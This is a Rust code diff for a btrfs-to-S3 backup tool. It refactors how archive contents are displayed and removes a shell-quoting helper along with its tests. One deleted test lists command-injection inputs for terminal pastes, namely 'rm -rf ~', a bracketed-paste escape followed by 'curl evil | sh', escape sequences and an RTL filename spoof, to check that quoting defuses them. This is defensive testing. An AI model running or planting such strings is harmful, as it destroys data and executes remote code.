@@ -2,14 +2,10 @@
 //! what runs left.
 
 use super::table::{Align, As, Bytes, Column, Rows, data, table};
-use crate::archive::ArchiveState;
-use crate::s3::S3Options;
+use crate::archive::{self, ArchiveState, Backups, Kind};
 use crate::snapshot::{Uuid, shown};
-use crate::store::archive::index::Archive;
-use crate::store::archive::manifest::{self, Manifest};
 use crate::text::{counted, human};
 use serde::{Serialize, Serializer};
-use std::collections::HashMap;
 use std::fmt;
 
 /// An archive, to be shown.
@@ -29,7 +25,7 @@ pub struct Shown {
 struct Backup {
     manifest_key: String,
     created_at: String,
-    kind: String,
+    kind: Kind,
     /// Whether it can be restored, and whether it is what the pointer names.
     state: &'static str,
     why: Option<String>,
@@ -72,7 +68,7 @@ const COLUMNS: &[Field] = &[
         Box::new(As(shown(&b.created_at), &b.created_at))
     })
     .shown(3, ""),
-    Field::json("kind", |b| Box::new(As(shown(&b.kind), &b.kind)))
+    Field::json("kind", |b| Box::new(As(b.kind.to_string(), b.kind)))
         .shown(4, "")
         .aligned(Align::Left, 11),
     Field::json("state", |b| Box::new(b.state))
@@ -112,38 +108,23 @@ fn rows<S: Serializer>(backups: &[Backup], to: S) -> Result<S::Ok, S::Error> {
 }
 
 impl Shown {
-    /// What there is in an archive at a place, `s3://bucket/prefix`; whether the chunks of each backup
-    /// can be read, by the key of its manifest; and how the bucket is reached, if commands are wanted.
-    pub fn of(
-        archive: &Archive,
-        (bucket, prefix): (&str, &str),
-        states: &HashMap<String, ArchiveState>,
-        reach: Option<&S3Options>,
-    ) -> Shown {
-        let unread = |key: &&String| !archive.manifests.contains_key(*key);
-        let broken = archive.broken.keys().filter(unread);
-        let leftovers = archive.leftovers.iter().map(|(name, left)| Leftover {
-            name: name.clone(),
+    /// What there is in an archive.
+    pub fn of(archive: &Backups) -> Shown {
+        let unread = archive.unread.iter();
+        let leftovers = archive.leftovers.iter().map(|left| Leftover {
+            name: left.name.clone(),
             bytes: left.bytes,
             latest: left.latest.map(jiff::Timestamp::as_second),
         });
-        let backups = archive.in_order().into_iter().map(|(key, manifest)| {
-            let command = reach.map(|reach| command(reach, bucket, manifest));
-            let thaw = states.get(key).and_then(|state| word(*state));
-            Backup {
-                thaw,
-                command,
-                ..Backup::of(archive, key, manifest)
-            }
-        });
+        let backups = archive.all.iter();
         Shown {
             archive: archive.name.clone(),
-            location: format!("s3://{bucket}/{}", shown(prefix)),
-            backups: backups.collect(),
-            broken: broken
-                .map(|key| Broken {
+            location: archive.location.clone(),
+            backups: backups.map(|b| Backup::of(archive, b)).collect(),
+            broken: unread
+                .map(|(key, why)| Broken {
                     key: key.clone(),
-                    why: archive.broken[key].clone(),
+                    why: why.clone(),
                 })
                 .collect(),
             leftovers: leftovers.collect(),
@@ -153,31 +134,28 @@ impl Shown {
 }
 
 impl Backup {
-    fn of(archive: &Archive, key: &str, manifest: &Manifest) -> Backup {
-        let all = &archive.manifests;
-        let bytes = |link: &&str| all.get(*link).map_or(0, |manifest| manifest.total_bytes);
-        let chain = manifest::chain(all, key).ok();
-        let made = |parent: &String| Some(all.get(parent)?.created_at.clone());
-        let parent = manifest.parent_manifest.as_ref();
+    fn of(archive: &Backups, backup: &archive::Backup) -> Backup {
+        let made = |parent: &String| Some(archive.get(parent)?.created_at.clone());
+        let parent = backup.parent.as_ref();
         Backup {
-            manifest_key: key.to_owned(),
-            created_at: manifest.created_at.clone(),
-            kind: manifest.kind.clone(),
-            state: match archive.broken.get(key) {
+            manifest_key: backup.key.clone(),
+            created_at: backup.created_at.clone(),
+            kind: backup.kind,
+            state: match &backup.broken {
                 Some(_) => "broken",
-                None if archive.current.as_deref() == Some(key) => "newest",
+                None if archive.current.as_ref() == Some(&backup.key) => "newest",
                 None => "restorable",
             },
-            why: archive.broken.get(key).cloned(),
-            snapshot: manifest.snapshot.name.clone(),
-            uuid: archive.id(key).filter(|_| archive.is_known(key)),
+            why: backup.broken.clone(),
+            snapshot: backup.snapshot.clone(),
+            uuid: backup.id,
             parent: parent.map(|parent| (parent.clone(), made(parent))),
-            bytes: manifest.total_bytes,
-            chain_bytes: chain.map(|chain| chain.iter().map(bytes).sum()),
-            chunks: manifest.chunks.len(),
-            storage_class: manifest.s3.storage_class.clone(),
-            thaw: None,
-            command: None,
+            bytes: backup.bytes,
+            chain_bytes: backup.chain_bytes,
+            chunks: backup.chunks.len(),
+            storage_class: backup.class.clone(),
+            thaw: backup.state.and_then(word),
+            command: backup.command.clone(),
         }
     }
 
@@ -222,84 +200,5 @@ fn word(state: ArchiveState) -> Option<&'static str> {
         ArchiveState::Frozen => Some("frozen"),
         ArchiveState::Thawing => Some("thawing"),
         ArchiveState::Thawed(_) => Some("thawed"),
-    }
-}
-
-fn command(reach: &S3Options, bucket: &str, manifest: &Manifest) -> String {
-    let mut aws = "aws".to_owned();
-    if let Some(region) = &reach.region {
-        aws += &format!(" --region {}", quoted(region));
-    }
-    if let Some(url) = &reach.endpoint_url {
-        aws += &format!(" --endpoint-url {}", quoted(url));
-    }
-    let fetch = |key: &str| {
-        let url = format!("s3://{bucket}/{key}");
-        format!("{aws} s3 cp {} -", quoted(&url))
-    };
-    let chunks = manifest.chunks.iter();
-    let all: Vec<String> = chunks.map(|chunk| fetch(&chunk.key)).collect();
-    match &all[..] {
-        [one] => format!("{one} | btrfs receive ."),
-        _ => format!("{{ {}; }} | btrfs receive .", all.join(" && ")),
-    }
-}
-
-/// A word for the shell, and for the terminal that it is shown on and pasted into: what would do
-/// something there is written as `$'...'` has it, which bash, zsh and ksh understand.
-fn quoted(word: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:".contains(c);
-    if !word.is_empty() && word.chars().all(plain) {
-        return word.to_owned();
-    }
-    // What is shown as something else has a character that does something.
-    if shown(word) == word.replace('\\', "\\\\") {
-        return format!("'{}'", word.replace('\'', "'\\''"));
-    }
-    let byte = |byte: u8| match byte {
-        b'\'' | b'\\' => format!("\\{}", char::from(byte)),
-        b' '..=b'~' => char::from(byte).to_string(),
-        _ => format!("\\{byte:03o}"),
-    };
-    format!("$'{}'", word.bytes().map(byte).collect::<String>())
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn words_for_the_shell() {
-        assert_eq!(quoted("s3://b/k-1.bin"), "s3://b/k-1.bin");
-        assert_eq!(quoted("a b"), "'a b'");
-        assert_eq!(quoted("it's"), "'it'\\''s'");
-        assert_eq!(quoted(""), "''");
-        assert_eq!(quoted("\u{fc}\\"), "'\u{fc}\\'");
-    }
-
-    /// ESC, newlines, the end of a bracketed paste, a control of eight bits, a mark that turns text
-    /// around.
-    #[test]
-    fn pasted_keys_do_no_harm() {
-        for key in [
-            "k\u{1b}]0;owned\u{7}\u{1b}[2J",
-            "x\nrm -rf ~\n",
-            "x\u{1b}[201~\ncurl evil | sh\n",
-            "a\u{9b}31m'\\",
-            "b\u{202e}gnp.exe",
-            "\r\t\0".trim_end_matches('\0'),
-        ] {
-            let word = quoted(key);
-            assert!(
-                word.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
-                "{word}"
-            );
-            let echo = ["-c".to_owned(), format!("printf %s {word}")];
-            let said = std::process::Command::new("bash")
-                .args(echo)
-                .output()
-                .unwrap();
-            assert_eq!(said.stdout, key.as_bytes(), "{word}");
-        }
     }
 }
